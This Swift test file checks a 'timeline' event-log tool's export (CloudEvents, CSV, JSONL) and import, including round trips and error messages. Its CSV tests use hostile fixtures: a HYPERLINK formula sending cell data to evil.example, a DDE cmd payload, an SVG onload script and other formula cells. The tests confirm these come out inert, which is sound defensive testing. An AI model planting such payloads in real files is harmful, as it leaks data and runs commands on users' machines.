import Foundation
import Testing

// MARK: - export

@Test func cloudEventsCarryTheRequiredAttributesPrecisionAndConfidence() throws {
  try withTemporaryDirectory { dir in
    let log = try logFrom("sample.jsonl", in: dir)
    let result = try timeline(["--log", log, "export", "--format", "cloudevents", "--source-uri", "urn:example:ci"])
    #expect(result.status == 0)
    let canonical = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout.split(separator: "\n")
    let lines = result.stdout.split(separator: "\n")
    #expect(lines.count == 19 && canonical.count == 19)
    for (line, event) in zip(lines, canonical) {
      let object = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
      let data = try #require(object["data"] as? [String: Any])
      let expected = try #require(try JSONSerialization.jsonObject(with: Data(event.utf8)) as? [String: Any])
      #expect(NSDictionary(dictionary: data).isEqual(to: expected), "data is the canonical event")
      #expect(object["specversion"] as? String == "1.0")
      #expect(object["id"] as? String == expected["id"] as? String)
      #expect(object["source"] as? String == "urn:example:ci")
      #expect(object["type"] as? String == "timeline." + (expected["kind"] as! String))
      #expect(object["datacontenttype"] as? String == "application/json")
      #expect(object["subject"] as? String == (expected["subject"] ?? expected["org"]) as? String)
      #expect(object["confidence"] as? String == expected["confidence"] as? String)
      #expect(object["eventdate"] as? String == expected["date"] as? String)
      for key in object.keys { #expect(key.wholeMatch(of: /[a-z0-9]+/) != nil, "attribute name \(key)") }
      // time is the start of the date's period; the precision says how much of it is known.
      let date = expected["date"] as! String
      let precision = ["4": "year", "7": "month", "10": "day"][String(date.count)]
      #expect(object["dateprecision"] as? String == precision)
      let time = try #require(object["time"] as? String)
      #expect(time.hasPrefix(date) && time.hasSuffix("T00:00:00.000Z") || (date.count == 7 && time.hasPrefix(date + "-01")))
    }
    // Line 12 of the sample is the valuation, known to the month.
    #expect(result.stdout.contains("\"time\":\"2025-12-01T00:00:00.000Z\",\"subject\":\"openai\",\"datacontenttype\":\"application/json\",\"dateprecision\":\"month\",\"eventdate\":\"2025-12\",\"confidence\":\"reported\""))
  }
}

@Test func csvQuotesAsRFC4180AndMakesFormulaCellsInert() throws {
  try withTemporaryDirectory { dir in
    let log = try logFrom("hostile.jsonl", in: dir)
    let csv = try timeline(["--log", log, "export", "--format", "csv"]).stdout
    // The attrs are a column per name (issue 13) between note and the source.
    let header = String(csv.prefix { $0 != "\r\n" })
    #expect(header.hasPrefix("id,date,kind,org,subject,confidence,note,") && header.contains(",attrs.codename,attrs.focus,"), "\(header)")
    #expect(header.hasSuffix(",source.title,source.publisher,source.url,source.date,supersedes,recorded"))
    // Formula starts get an apostrophe: =, +, -, @, tab; and a leading apostrophe is doubled.
    #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""))
    #expect(csv.contains(",'+cmd|' /C calc'!A0,"))
    #expect(csv.contains(",'-2+3,"))
    #expect(csv.contains(",'\t=tab formula,"))
    #expect(csv.contains(",''quoted,"))
    #expect(csv.contains("\"''><svg onload=document.body.setAttribute('data-pwned','svg')>\""))
    // A newline inside a note stays inside one quoted cell.
    #expect(csv.contains("\"control \u{7} bell, U+FFFE \u{fffe}, bidi \u{202e} reversed, tab\there, newline\nsecond line: #35; %% comment ; `tick` <b>bold</b>\""))
    // No cell of any row starts with a formula character.
    for row in csv.components(separatedBy: "\r\n") {
      for cell in row.split(separator: ",", omittingEmptySubsequences: false) {
        let bare = cell.hasPrefix("\"") ? cell.dropFirst() : cell
        #expect(!(bare.first.map { "=+@".contains($0) } ?? false), "inert cell expected: \(cell)")
      }
    }
  }
}

@Test func jsonlExportIsTheCanonicalLinesInReplayOrder() throws {
  try withTemporaryDirectory { dir in
    let log = try logFrom("sample.jsonl", in: dir)
    let exported = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
    let stored = try contents(log + "/log.jsonl")
    #expect(Set(exported.split(separator: "\n")) == Set(stored.split(separator: "\n")))
    let dates = exported.split(separator: "\n").map { $0.split(separator: "\"")[7] }
    #expect(dates == dates.sorted())
    let filtered = try timeline(["--log", log, "export", "--format", "jsonl", "--org", "google", "--from", "2025-11-20"]).stdout
    #expect(filtered.split(separator: "\n").count == 2)
    let before = snapshot(log)
    #expect(try timeline(["--log", log, "export"]).status == 64)
    #expect(snapshot(log) == before)
  }
}

// MARK: - import

@Test func importRejectsTheWholeFileNamingEveryBadRowAndLeavesTheLogAsItWas() throws {
  try withTemporaryDirectory { dir in
    let log = try logFrom("sample.jsonl", in: dir)
    let before = snapshot(log)
    let csv = """
      Name,Day,Kind,Link
      Widget,2025-01-02,launch,https://example.com/w
      "Two
      lines",2025-13-01,launch,https://example.com/x
      Gadget,2025-02-03,lunch,https://example.com/g
      ,2025-02-04,launch,
      Gizmo,2025-02-30,retire,https://example.com/z

      """
    try csv.write(toFile: dir + "/in.csv", atomically: true, encoding: .utf8)
    let result = try timeline(["--log", log, "import", dir + "/in.csv", "--format", "csv", "--set", "org=acme",
                               "--map", "Name=subject:slug", "--map", "Day=date", "--map", "Kind=kind", "--map", "Link=source.url"])
    #expect(result.status == 65)
    #expect(result.stderr.contains("4 of the 5 rows of \(dir)/in.csv are invalid; nothing was appended"))
    #expect(result.stderr.contains("in.csv:3 (Two lines): \"date\": \"2025-13-01\" is not a real date"), "\(result.stderr)")
    #expect(result.stderr.contains("in.csv:5 (Gadget): unknown kind 'lunch' (did you mean \"launch\"?)"))
    #expect(result.stderr.contains("in.csv:6: missing \"subject\""))
    #expect(result.stderr.contains("in.csv:7 (Gizmo): \"date\": \"2025-02-30\" is not a real date: February 2025 has 28 days"))
    #expect(snapshot(log) == before, "the log changed")
  }
}

@Test func importingTheSameFileTwiceAppendsNothingTheSecondTime() throws {
  try withTemporaryDirectory { dir in
    let source = try logFrom("sample.jsonl", in: dir)
    let csvPath = dir + "/export.csv"
    #expect(try timeline(["--log", source, "export", "--format", "csv", "-o", csvPath]).status == 0)
    let log = dir + "/copy"
    let first = try timeline(["--log", log, "import", csvPath, "--format", "csv"])
    #expect(first.status == 0, "\(first.stderr)")
    #expect(first.stdout.contains("19 rows read from \(csvPath); 19 events; appended 19"))
    let after = snapshot(log)
    let second = try timeline(["--log", log, "import", csvPath, "--format", "csv"])
    #expect(second.status == 0)
    #expect(second.stdout.contains("19 events, 19 already in the log; appended 0"))
    #expect(snapshot(log) == after)
    let dry = try timeline(["--log", dir + "/dry", "import", csvPath, "--format", "csv", "--dry-run"])
    #expect(dry.stdout.contains("would append 19") && !FileManager.default.fileExists(atPath: dir + "/dry"))
    // A dry run shows the lines it would append: the export's own events, with their recorded times.
    let shown = dry.lines.filter { $0.hasPrefix("{") }
    let exported = try timeline(["--log", source, "export", "--format", "jsonl"]).lines
    #expect(Set(shown) == Set(exported), "\(dry.stdout)")
    #expect(shown.count == 19)
  }
}

/// export -> import -> export gives the same bytes, in CSV and JSONL.
private func expectRoundTrip(_ log: String, in dir: String) throws {
  for format in ["csv", "jsonl"] {
    let first = dir + "/first.\(format)"
    let second = dir + "/second.\(format)"
    let copy = dir + "/copy-\(format)"
    #expect(try timeline(["--log", log, "export", "--format", format, "-o", first]).status == 0)
    let imported = try timeline(["--log", copy, "import", first, "--format", format])
    #expect(imported.status == 0, "\(imported.stderr)")
    #expect(try timeline(["--log", copy, "export", "--format", format, "-o", second]).status == 0)
    #expect(try Data(contentsOf: URL(fileURLWithPath: first)) == Data(contentsOf: URL(fileURLWithPath: second)), "\(format) round trip differs")
    #expect(try timeline(["--log", copy, "check"]).status == 0)
  }
}

@Test func importExportImportRoundTripsTheShippedLogExactly() throws {
  let shipped = checkoutRoot + "/events"
  let files = (try? FileManager.default.contentsOfDirectory(atPath: shipped).filter { $0.hasSuffix(".jsonl") }) ?? []
  try withTemporaryDirectory { dir in
    // Before the corpus lands, the sample and the hostile fixtures stand in for it.
    let logs = files.isEmpty ? [try logFrom("sample.jsonl", in: dir + "/s"), try logFrom("hostile.jsonl", in: dir + "/h")] : [shipped]
    for (index, log) in logs.enumerated() {
      let work = dir + "/rt\(index)"
      try FileManager.default.createDirectory(atPath: work, withIntermediateDirectories: true)
      try expectRoundTrip(log, in: work)
    }
  }
}

@Test(.enabled(if: sharedDataIsThere, "reads ../shared/data (or $TIMELINE_SHARED)"))
func killedByGoogleImportsAsLaunchesAndRetiresAndRoundTrips() throws {
  let graveyard = sharedData + "/killedbygoogle/graveyard.json"
  try #require(FileManager.default.fileExists(atPath: graveyard), "the data set is read from ../shared/data")
  try withTemporaryDirectory { dir in
    let log = dir + "/kbg"
    let result = try timeline(["--log", log, "import", graveyard, "--preset", "killedbygoogle"])
    #expect(result.status == 0, "\(result.stderr)")
    #expect(result.stdout.contains("307 rows read from \(graveyard); 614 events; appended 614"))
    // Planned shutdowns are kept and said.
    #expect(result.stderr.contains("retire google/firebase-studio is dated 2027-03-22, after today"))
    #expect(result.stderr.contains("retire google/google-earth-pro is dated 2027-06-25, after today"))
    // The counts SOURCES.md gives, through state: a product retired on D is gone at the end of D.
    for (day, alive) in [("2010-01-01", 90), ("2015-06-01", 110), ("2020-01-01", 93), ("2024-01-01", 13), ("2011-09-02", 104),
                         ("2019-04-02", 111), ("2018-09-18", 122)] {
      let state = try timeline(["--log", log, "state", "--at", day, "--json"]).stdout
      #expect(state.components(separatedBy: "\"status\": \"active\"").count - 1 == alive, "alive on \(day)")
    }
    let reader = try timeline(["--log", log, "log", "--subject", "google/google-reader"]).stdout
    #expect(reader.contains("2005-10-07") && reader.contains("2013-07-01"))
    // An archived link whose path holds another URL keeps its own start.
    let apis = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
    #expect(apis.contains("\"url\":\"https://web.archive.org/web/20021105033319/http://www.google.com/apis/\""))
    let again = try timeline(["--log", log, "import", graveyard, "--preset", "killedbygoogle"])
    #expect(again.stdout.contains("614 already in the log; appended 0"))
    try expectRoundTrip(log, in: dir)
  }
}

@Test(.enabled(if: sharedDataIsThere, "reads ../shared/data (or $TIMELINE_SHARED)"))
func epochNotableModelsImportWithTheirQuirksReported() throws {
  let csv = sharedData + "/epoch-notable-ai-models/notable_ai_models_2025-04.csv"
  try #require(FileManager.default.fileExists(atPath: csv), "the data set is read from ../shared/data")
  try withTemporaryDirectory { dir in
    let log = dir + "/epoch"
    let result = try timeline(["--log", log, "import", csv, "--preset", "epoch"])
    #expect(result.status == 0, "\(result.stderr)")
    #expect(result.stdout.contains("924 rows read from \(csv), 14 skipped; 910 events; appended 910"))
    #expect(result.stderr.contains("skipped (Llama 4 Behemoth): empty 'Publication date'"))
    #expect(result.stderr.components(separatedBy: ": empty 'Organization'").count - 1 == 13)
    #expect(result.stderr.contains("year-if-jan1 on 'Publication date' changed 12 rows"))
    #expect(result.stderr.contains("first on 'Organization' changed 308 rows"))
    #expect(result.stderr.contains("3 rows had no source title or url"))
    let events = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
    // Non-ASCII names become slugs; + keeps PointNet++ apart from PointNet; year-only dates keep their precision.
    for subject in ["openai/dall-e-3", "huawei-noah-s-ark-lab/pangu-sigma", "microsoft-research/nuwa", "ut-austin/lambda-wasp",
                    "stanford-university/pointnet-plus-plus", "stanford-university/pointnet"] {
      #expect(events.contains("\"subject\":\"\(subject)\""), "missing \(subject)")
    }
    #expect(events.contains(/"date":"\d{4}","kind":"launch"/), "a year-only date")
    // Several organisations: the first owns the launch, the note keeps them all.
    #expect(events.contains("\"org\":\"microsoft-research\",\"subject\":\"microsoft-research/nuwa\""))
    #expect(events.contains("Organization: Microsoft Research,Peking University"))
    #expect(try timeline(["--log", log, "check"]).status == 0)
    try expectRoundTrip(log, in: dir)
  }
}

@Test func importMappingMistakesAreUsageErrors() throws {
  try withTemporaryDirectory { dir in
    try "a,b\n1,2\n".write(toFile: dir + "/t.csv", atomically: true, encoding: .utf8)
    let cases: [([String], String)] = [
      (["--map", "a=dat"], "unknown field 'dat' (did you mean \"date\"?)"),
      (["--map", "c=date"], "has no column 'c'"),
      (["--map", "a=date:slugify"], "unknown transform 'slugify'; the transforms are slug, first"),
      (["--map", "a=date@lunch"], "'lunch' after @ is not a kind"),
      (["--map", "a=date", "--map", "b=date"], "both 'a' and 'b' fill date"),
      (["--kind", "lunch"], "unknown kind 'lunch'"),
      ([], "no column is named like an event field"),
    ]
    for (arguments, message) in cases {
      let result = try timeline(["--log", dir + "/log", "import", dir + "/t.csv", "--format", "csv"] + arguments)
      #expect(result.status == 64, "\(arguments)")
      #expect(result.stderr.contains(message), "\(arguments): \(result.stderr)")
      #expect(!FileManager.default.fileExists(atPath: dir + "/log"), "\(arguments): a refused import created the log")
    }
    #expect(try timeline(["--log", dir + "/log", "import", dir + "/missing.csv", "--format", "csv"]).status == 66)
    #expect(!FileManager.default.fileExists(atPath: dir + "/log"))
  }
}

@Test func importOfHostileCSVKeepsTheTextAndExportsItInert() throws {
  try withTemporaryDirectory { dir in
    let csv = "subject,date,note\r\nwidget,2025-01-01,\"=1+2\"\r\ngadget,2025-01-02,@SUM(A1)\r\n"
    try csv.write(toFile: dir + "/in.csv", atomically: true, encoding: .utf8)
    let log = dir + "/log"
    let result = try timeline(["--log", log, "import", dir + "/in.csv", "--format", "csv", "--kind", "launch", "--set", "org=acme",
                               "--map", "subject=subject", "--map", "date=date", "--map", "note=note"])
    #expect(result.status == 0, "\(result.stderr)")
    let events = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
    #expect(events.contains("\"subject\":\"acme/widget\"") && events.contains("\"note\":\"=1+2\""))
    let out = try timeline(["--log", log, "export", "--format", "csv"]).stdout
    #expect(out.contains(",'=1+2,") && out.contains(",'@SUM(A1),"))
  }
}

@Test func csvQuotesCRLFInsideACellSoTheRowRoundTrips() throws {
  try withTemporaryDirectory { dir in
    let log = dir + "/log"
    // "\r\n" is a single Swift Character: a cell holding it must still be quoted.
    let lines = [
      #"{"date":"2025-01-01","kind":"report","org":"acme","note":"first\r\nsecond","confidence":"confirmed"}"#,
      #"{"date":"2025-01-02","kind":"report","org":"acme","note":"\r\nstarts with a line break"}"#,
    ]
    let added = try timeline(["--log", log, "add", "--stdin"], stdin: lines.joined(separator: "\n") + "\n")
    #expect(added.status == 0, "\(added.stderr)")
    let csv = try timeline(["--log", log, "export", "--format", "csv"]).stdout
    #expect(csv.contains("\"first\r\nsecond\""))
    #expect(csv.contains("\"'\r\nstarts with a line break\""), "a leading CR is made inert and quoted")
    try csv.write(toFile: dir + "/out.csv", atomically: true, encoding: .utf8)
    let copy = dir + "/copy"
    let imported = try timeline(["--log", copy, "import", dir + "/out.csv", "--format", "csv"])
    #expect(imported.status == 0, "\(imported.stderr)")
    #expect(try timeline(["--log", copy, "export", "--format", "jsonl"]).stdout == (try timeline(["--log", log, "export", "--format", "jsonl"]).stdout))
  }
}

@Test func columnsNamedLikeFieldsStillFillThemBesideSetAndKind() throws {
  try withTemporaryDirectory { dir in
    try "subject,date,note,org\r\nacme/widget,2025-01-01,hello,ignored\r\n".write(toFile: dir + "/in.csv", atomically: true, encoding: .utf8)
    let log = dir + "/log"
    let result = try timeline(["--log", log, "import", dir + "/in.csv", "--format", "csv", "--kind", "launch", "--set", "org=acme"])
    #expect(result.status == 0, "\(result.stderr)")
    let events = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
    #expect(events.contains(#""date":"2025-01-01","kind":"launch","org":"acme","subject":"acme/widget""#), "\(events)")
    #expect(events.contains(#""note":"hello""#))
    #expect(!events.contains("ignored"), "--set org wins over the org column")
  }
}

@Test func outputIsNeverWrittenOverALogFile() throws {
  try withTemporaryDirectory { dir in
    let log = try folderLog(dir)
    let fileLog = dir + "/single.jsonl"
    try FileManager.default.copyItem(atPath: log + "/log.jsonl", toPath: fileLog)
    let before = snapshot(dir)
    for (logPath, output) in [
      (log, log + "/log.jsonl"),  // the log's own file
      (log, log + "/new.jsonl"),  // a new file in the folder would join the log
      (log, log + "/../" + (log as NSString).lastPathComponent + "/log.jsonl"),  // the same, by another path
      (fileLog, fileLog),
    ] {
      for command in [["export", "--format", "jsonl"], ["render", "--format", "svg"]] {
        let result = try timeline(["--log", logPath] + command + ["-o", output])
        #expect(result.status == 64, "\(command) -o \(output): \(result.stderr)")
        #expect(result.stderr.contains("is a file of the log"), "\(result.stderr)")
      }
    }
    #expect(snapshot(dir) == before)
    #expect(try timeline(["--log", log, "export", "--format", "csv", "-o", log + "/export.csv"]).status == 0, "other files in the folder are fine")
  }
}

@Test func anEmptyFileImportsNothingAndABrokenJSONLineSaysWhy() throws {
  try withTemporaryDirectory { dir in
    let log = dir + "/log"
    for (name, text, format) in [("e.jsonl", "", "jsonl"), ("e.csv", "", "csv"), ("e.json", "[]", "json")] {
      try text.write(toFile: dir + "/" + name, atomically: true, encoding: .utf8)
      let result = try timeline(["--log", log, "import", dir + "/" + name, "--format", format])
      #expect(result.status == 0, "\(name): \(result.stderr)")
      #expect(result.stdout.hasPrefix("0 rows read"), "\(name): \(result.stdout)")
    }
    #expect(!FileManager.default.fileExists(atPath: log), "nothing to append creates no log")
    try #"{"a":1,}"#.write(toFile: dir + "/bad.jsonl", atomically: true, encoding: .utf8)
    let bad = try timeline(["--log", log, "import", dir + "/bad.jsonl", "--format", "jsonl", "--kind", "report"])
    #expect(bad.status == 65)
    #expect(bad.stderr.contains("bad.jsonl:1: expected a quoted key"), "\(bad.stderr)")
    #expect(!FileManager.default.fileExists(atPath: log))
  }
}

/// A JSON import keeps the types JSON gives: an array is the list itself
/// (not its text split), a free attr keeps its boolean or number, and a
/// source written as an object fills source.*.
@Test func jsonImportKeepsArraysBooleansNumbersAndASourceObject() throws {
  try withTemporaryDirectory { dir in
    try #"""
    [{"date":"2025-01-04","kind":"strategy","org":"acme","attrs.focus":["acme/a","acme/b;c"],"source":{"title":"t","url":"https://x.example/"}},
     {"date":"2025-01-05","kind":"x-b","org":"acme","attrs.flag":true,"attrs.n":1.5,"attrs.tags":["p","q"],"source.title":"t"},
     {"date":"2025-01-06","kind":"strategy","org":"acme","attrs.focus":"acme/c;acme/d","source.title":"t"}]
    """#.write(toFile: dir + "/in.json", atomically: true, encoding: .utf8)
    let log = dir + "/log"
    let result = try timeline(["--log", log, "import", dir + "/in.json"])
    #expect(result.status == 0, "\(result.stderr)")
    let lines = try timeline(["--log", log, "export", "--format", "jsonl"]).lines
    #expect(lines.count == 3)
    #expect(lines[0].contains(#""attrs":{"focus":["acme/a","acme/b;c"]}"#), "\(lines[0])")
    #expect(lines[0].contains(#""source":{"title":"t","url":"https://x.example/"}"#), "\(lines[0])")
    #expect(lines[1].contains(#""attrs":{"flag":true,"n":1.5,"tags":["p","q"]}"#), "\(lines[1])")
    #expect(lines[2].contains(#""attrs":{"focus":["acme/c","acme/d"]}"#), "a text cell is still split on ';': \(lines[2])")
    // A list attr given a number is refused, naming its column; nothing is written.
    try #"[{"date":"2025-01-07","kind":"strategy","org":"acme","attrs.focus":[1],"source.title":"t"}]"#.write(toFile: dir + "/bad.json", atomically: true, encoding: .utf8)
    let before = snapshot(log)
    let bad = try timeline(["--log", log, "import", dir + "/bad.json"])
    #expect(bad.status == 65, "\(bad.stderr)")
    #expect(bad.stderr.contains("(attrs.focus): [1] is not a list of strings"), "\(bad.stderr)")
    #expect(snapshot(log) == before)
  }
}

/// Without --map, columns not named like a field are not read, and the
/// import says which, with the field each may have meant.
@Test func columnsNotNamedLikeFieldsAreNamedAsNotRead() throws {
  try withTemporaryDirectory { dir in
    try "date,kind,org,confidance,notes,source.title\r\n2025-02-01,x-a,acme,rumor,my note,Src\r\n".write(toFile: dir + "/in.csv", atomically: true, encoding: .utf8)
    let result = try timeline(["--log", dir + "/log", "import", dir + "/in.csv"])
    #expect(result.status == 0, "\(result.stderr)")
    #expect(result.stderr.contains(#"not read, as no column of that name is an event field: 'confidance' (did you mean "confidence"?), 'notes' (did you mean "note"?);"#), "\(result.stderr)")
    #expect(result.stderr.contains("--map COLUMN=FIELD"))
  }
}

/// An export's CSV with columns deleted in a spreadsheet still gives its
/// inert cells back: export's apostrophe is not left in the text.
@Test func anExportedCSVWithColumnsDeletedGivesItsInertCellsBack() throws {
  try withTemporaryDirectory { dir in
    let log = dir + "/log"
    let added = try timeline(["--log", log, "add", "x-a", "--date", "2025-01-01", "--org", "acme", "--note", "-5% revenue", "--source-title", "=Reuters"])
    #expect(added.status == 0, "\(added.stderr)")
    let csv = try timeline(["--log", log, "export", "--format", "csv"]).stdout
    #expect(csv.contains("'-5% revenue") && csv.contains("'=Reuters"))
    // Delete the id and recorded columns, as one does in a spreadsheet.
    let rows = csv.split(separator: "\r\n").map { $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init) }
    let header = rows[0]
    let keep = header.indices.filter { header[$0] != "id" && header[$0] != "recorded" }
    let edited = rows.map { row in keep.map { row[$0] }.joined(separator: ",") }.joined(separator: "\r\n") + "\r\n"
    try edited.write(toFile: dir + "/edited.csv", atomically: true, encoding: .utf8)
    let copy = dir + "/copy"
    let imported = try timeline(["--log", copy, "import", dir + "/edited.csv"])
    #expect(imported.status == 0, "\(imported.stderr)")
    let line = try timeline(["--log", copy, "export", "--format", "jsonl"]).stdout
    #expect(line.contains(#""title":"=Reuters""#) && line.contains(#""note":"-5% revenue""#), "\(line)")
    #expect(line.contains(added.output), "the same content, so the same id: \(line)")
  }
}

/// Export's typed attr columns (`attrs.NAME:number`, `:bool`, `:list`,
/// `:json`) are read as such in a file whose columns are all of export's
/// layout with some deleted or moved, and in a hand-made file of them: the
/// same attrs, so the same content id, not attrs named "n:number".
@Test func typedAttrColumnsAreReadWhenColumnsAreDeletedOrMoved() throws {
  try withTemporaryDirectory { dir in
    let log = dir + "/log"
    let event = #"{"date":"2025-12-02","kind":"report","org":"acme","attrs":{"e":"","l":["a","b"],"n":5,"ok":true},"source":{"title":"t"}}"#
    let added = try timeline(["--log", log, "add", "--stdin"], stdin: event + "\n")
    #expect(added.status == 0, "\(added.stderr)")
    let csv = try timeline(["--log", log, "export", "--format", "csv"]).stdout
    let rows = csv.split(separator: "\r\n").map { $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init) }
    let header = rows[0]
    for typed in ["attrs.e:json", "attrs.l:list", "attrs.n:number", "attrs.ok:bool"] { #expect(header.contains(typed), "\(header)") }
    for dropped in ["id", "recorded", "source.date"] {
      // Without that column, and with the last column moved to the front.
      var keep = header.indices.filter { header[$0] != dropped }
      keep.insert(keep.removeLast(), at: 0)
      let edited = rows.map { row in keep.map { row[$0] }.joined(separator: ",") }.joined(separator: "\r\n") + "\r\n"
      try edited.write(toFile: dir + "/edited.csv", atomically: true, encoding: .utf8)
      let copy = dir + "/copy-" + dropped
      let imported = try timeline(["--log", copy, "import", dir + "/edited.csv"])
      #expect(imported.status == 0, "\(dropped): \(imported.stderr)")
      let line = try timeline(["--log", copy, "export", "--format", "jsonl"]).stdout
      #expect(line.contains(#""attrs":{"e":"","l":["a","b"],"n":5,"ok":true}"#), "\(dropped): \(line)")
      #expect(line.contains(added.output), "\(dropped): the same content, so the same id: \(line)")
    }
    try "date,kind,org,note,attrs.n:number,attrs.ok:bool\n2025-01-01,report,acme,x,5,false\n".write(toFile: dir + "/hand.csv", atomically: true, encoding: .utf8)
    let hand = try timeline(["--log", dir + "/hand", "import", dir + "/hand.csv"])
    #expect(hand.status == 0, "\(hand.stderr)")
    #expect(try timeline(["--log", dir + "/hand", "export", "--format", "jsonl"]).stdout.contains(#""attrs":{"n":5,"ok":false}"#))
  }
}

/// A row whose mapped source has neither title nor URL is imported without
/// one and listed (docs/sharing.md), whether the mapping names a URL column
/// that is empty there or the row has a publisher alone.
@Test func rowsImportedWithoutASourceAreListed() throws {
  try withTemporaryDirectory { dir in
    try "Name,Day,URL,Who\nWidget Pro,2025-03-04,,\nB,2025-03-05,https://x.example,\nC,2025-03-06,,Reuters\n".write(toFile: dir + "/in.csv", atomically: true, encoding: .utf8)
    let result = try timeline([
      "--log", dir + "/log", "import", dir + "/in.csv", "--kind", "launch", "--set", "org=acme", "--map", "Name=subject:slug",
      "--map", "Day=date", "--map", "URL=source.url", "--map", "Who=source.publisher",
    ])
    #expect(result.status == 0, "\(result.stderr)")
    #expect(result.stderr.contains("2 rows had no source title or url and were imported without a source (lines 2, 4)"), "\(result.stderr)")
    let one = try timeline(["--log", dir + "/one", "import", dir + "/in.csv", "--kind", "launch", "--set", "org=acme", "--map", "Name=subject:slug", "--map", "Day=date", "--map", "URL=source.url"])
    #expect(one.stderr.contains("2 rows had no source title or url"), "\(one.stderr)")
    // No source field mapped at all: nothing to say.
    let none = try timeline(["--log", dir + "/none", "import", dir + "/in.csv", "--kind", "launch", "--set", "org=acme", "--map", "Name=subject:slug", "--map", "Day=date"])
    #expect(none.status == 0 && !none.stderr.contains("without a source"), "\(none.stderr)")
  }
}

/// import's own way out, in its errors: recorded times out of order point
/// to --restamp, and an id clash names the row as other faults do.
@Test func importErrorsSayImportsWayOut() throws {
  try withTemporaryDirectory { dir in
    let log = try folderLog(dir)
    #expect(try timeline(["--log", log, "add", "report", "--date", "2025-01-01", "--org", "acme", "--source-title", "t"]).status == 0)
    let old = #"{"date":"2025-01-01","kind":"report","org":"acme","note":"old","recorded":"2020-01-01T00:00:00.000Z"}"#
    try (old + "\n").write(toFile: dir + "/old.jsonl", atomically: true, encoding: .utf8)
    let before = snapshot(dir)
    let late = try timeline(["--log", log, "import", dir + "/old.jsonl"])
    #expect(late.status == 65, "\(late.stderr)")
    #expect(late.stderr.contains("give import --restamp to stamp the events now"), "\(late.stderr)")
    #expect(!late.stderr.contains("have add stamp"), "\(late.stderr)")
    #expect(snapshot(dir) == before)
    #expect(try timeline(["--log", log, "import", "--restamp", dir + "/old.jsonl"]).status == 0)

    try "id,date,kind,org,subject,source.title\nmy-id,2025-01-01,launch,z,z/q,t\n".write(toFile: dir + "/a.csv", atomically: true, encoding: .utf8)
    try "id,date,kind,org,subject,source.title\nmy-id,2025-01-02,launch,z,z/q,t\n".write(toFile: dir + "/b.csv", atomically: true, encoding: .utf8)
    #expect(try timeline(["--log", log, "import", dir + "/a.csv"]).status == 0)
    let beforeClash = snapshot(dir)
    let clash = try timeline(["--log", log, "import", dir + "/b.csv"])
    #expect(clash.status == 65)
    #expect(clash.stderr.contains("b.csv:2 (z/q): id my-id is already in the log for another event"), "\(clash.stderr)")
    #expect(snapshot(dir) == beforeClash)
  }
}
